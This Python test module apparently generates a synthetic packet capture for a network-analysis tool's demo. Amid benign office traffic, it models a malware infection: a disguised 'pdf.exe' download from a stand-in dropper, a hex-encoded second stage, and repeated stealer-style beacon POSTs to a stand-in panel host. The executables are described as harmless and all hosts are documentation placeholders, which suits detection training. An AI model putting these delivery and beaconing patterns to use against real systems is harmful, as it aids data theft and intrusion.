"""The capture that `zeektui --demo` opens: how a machine caught something, among honest traffic.

Run `python -m tests.demo.infection` to write it; the same bytes come out each time. Every name ends in
.example, every foreign address is one of those kept for documentation (RFC 5737), the program inside is valid and
does nothing.
"""

import struct
from pathlib import Path

import tui
from tests.demo import executable, names, tls
from tests.demo.wire import Conversation, Host, Wire

TARGET = Path(tui.__file__).parent / "demo" / "infection.pcap"

START = 1_789_549_338_000_000  # 2026-09-16 09:02:18 UTC, in microseconds
SECOND = 1_000_000

VICTIM = Host("10.20.30.101", "02:1b:a9:3c:52:6e", 128)
ROUTER = Host("10.20.30.1", "02:00:5e:10:00:01")
NOBODY = Host("0.0.0.0", VICTIM.mac, 128)
EVERYBODY = Host("255.255.255.255", "ff:ff:ff:ff:ff:ff")
NEIGHBOURS = Host("10.20.30.255")
UPDATES = Host("203.0.113.20")
SHOP = Host("203.0.113.88")
DROPPER = Host("198.51.100.77", ttl=51)
PANEL = Host("192.0.2.66", ttl=47)

BROWSER = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/139.0.0.0 Safari/537.36"
)
STEALER = "Mozilla/4.08 (Charon; Inferno)"


def _request(method: str, host: str, uri: str, agent: str, body: bytes = b"", extra: str = "") -> bytes:
    length = f"Content-Length: {len(body)}\r\n" if body else ""
    head = f"{method} {uri} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {agent}\r\nAccept: */*\r\n{extra}{length}\r\n"
    return head.encode() + body


def _reply(status: str, kind: str, body: bytes, extra: str = "") -> bytes:
    head = f"HTTP/1.1 {status}\r\nServer: nginx\r\nContent-Type: {kind}\r\n{extra}Content-Length: {len(body)}\r\n\r\n"
    return head.encode() + body


def program() -> bytes:
    """The executable that comes in."""
    filling = b"".join(b"This program is part of a demonstration and does nothing. %06d\r\n" % n for n in range(900))
    facts = {
        "CompanyName": "Example Parcel Tracking",
        "FileDescription": "Shipping document viewer",
        "FileVersion": "1.2.3.4",
        "OriginalFilename": "docview.exe",
        "ProductName": "docview",
    }
    return executable.build(710_000_000, filling, facts)


def second_stage() -> bytes:
    """A small library that travels as text."""
    return executable.build(1_757_000_000, b"A second harmless program. " * 40, {"OriginalFilename": "module.dll"})


def _look_up(wire: Wire, now: int, name: str, addresses: list[str]) -> int:
    identifier = sum(name.encode()) * 257 & 0xFFFF
    port = 49152 + identifier % 9000
    wire.udp(now, VICTIM, port, ROUTER, 53, names.question(identifier, name))
    wire.udp(now + 21_300, ROUTER, 53, VICTIM, port, names.answer(identifier, name, addresses, 300))
    return now + 22_000


def _lease(wire: Wire, now: int) -> None:
    facts = {"transaction": 0x3C526E01, "card": VICTIM.card, "client": VICTIM.address, "server": ROUTER.address}
    for step, kind in enumerate((1, 2, 3, 5)):
        message = names.dhcp(kind, name="RECEPTION-PC", **facts)  # type: ignore[arg-type]
        source, ports = (ROUTER, (67, 68)) if kind in (2, 5) else (NOBODY, (68, 67))
        wire.udp(now + step * 31_000, source, ports[0], EVERYBODY, ports[1], message)


def _name_claims(wire: Wire, now: int) -> None:
    for step in range(3):
        message = names.netbios_registration(0x8C10, "RECEPTION-PC", VICTIM.address)
        wire.udp(now + step * 760_000, VICTIM, 137, NEIGHBOURS, 137, message)


def _trust_list(wire: Wire, now: int) -> None:
    """The system fetches its list of certificates, as it does on its own."""
    host = "ctl.updates.example"
    now = _look_up(wire, now, host, [UPDATES.address])
    body = b"MSCF" + struct.pack("<IIIII", 0, 6400, 0, 44, 0) + b"\x03\x01\x01\x00\x01\x00" + tls.filler("cab", 6366)
    uri = "/msdownload/update/v3/static/trustedr/en/authrootstl.cab?9f3a1c2d"
    talk = Conversation(wire, VICTIM, 49971, UPDATES, 80, now)
    talk.ask(
        _request("GET", host, uri, "Microsoft-CryptoAPI/10.0"),
        _reply("200 OK", "application/vnd.ms-cab-compressed", body),
    )
    talk.close()


def _shop(wire: Wire, now: int, port: int) -> None:
    """An honest visit over TLS."""
    host = "www.parcel-shop.example"
    now = _look_up(wire, now, host, [SHOP.address])
    talk = Conversation(wire, VICTIM, port, SHOP, 443, now)
    talk.ask(tls.client_hello(host), tls.server_flight(host, tls.chain([host, "parcel-shop.example"])))
    talk.ask(tls.client_finish(host), tls.server_finish(host))
    talk.ask(tls.record(23, tls.filler(f"get {port}", 640)), tls.record(23, tls.filler(f"page {port}", 14_200)))
    talk.close()


def _downloads(wire: Wire, now: int) -> None:
    """The executable, with a name and a type that say something else; then its second stage, as text."""
    host = "cdn.parcel-notice.example"
    now = _look_up(wire, now, host, [DROPPER.address])
    talk = Conversation(wire, VICTIM, 49979, DROPPER, 8080, now, trip=61_000)
    named = 'Content-Disposition: attachment; filename="Delivery_Note_2231.pdf.exe"\r\n'
    talk.ask(
        _request("GET", f"{host}:8080", "/t/2231/Delivery_Note_2231.pdf.exe", BROWSER),
        _reply("200 OK", "application/octet-stream", program(), named),
    )
    talk.reset()
    talk = Conversation(wire, VICTIM, 49981, DROPPER, 8080, now + 7 * SECOND, trip=61_000)
    text = second_stage().hex().encode()
    talk.ask(_request("GET", f"{host}:8080", "/t/2231/m.txt", STEALER), _reply("200 OK", "text/plain", text))
    talk.close()


def _beacons(wire: Wire, now: int) -> None:
    """It reports home every sixty seconds; the answer is always that there is nothing, which means: go on."""
    host = "panel.gate-check.example"
    now = _look_up(wire, now, host, [PANEL.address])
    for turn in range(10):
        body = struct.pack("<HHI", 0x12, 0x27 if turn else 0x28, turn) + tls.filler(
            f"report {turn}", 180 if turn else 410
        )
        talk = Conversation(wire, VICTIM, 49983 + turn, PANEL, 80, now + turn * 60 * SECOND, trip=88_000)
        talk.ask(
            _request("POST", host, "/five/fre.php", STEALER, body, "Content-Key: 5EF1A9B2\r\n"),
            _reply("404 Not Found", "text/html; charset=UTF-8", b"\x08\x00\x00\x00\x00\x00\x00\x00File not found."),
        )
        talk.close()


def capture() -> bytes:
    """The whole story."""
    wire = Wire()
    _lease(wire, START - 40 * SECOND)
    _name_claims(wire, START - 38 * SECOND)
    _look_up(wire, START - 36 * SECOND, "wpad.office.example", [])
    _trust_list(wire, START - 30 * SECOND)
    _shop(wire, START - 12 * SECOND, 49975)
    _downloads(wire, START)
    _beacons(wire, START + 48 * SECOND)
    _shop(wire, START + 185 * SECOND, 50011)
    _look_up(wire, START + 300 * SECOND, "time.office.example", [ROUTER.address])
    return wire.capture()


if __name__ == "__main__":
    TARGET.write_bytes(capture())
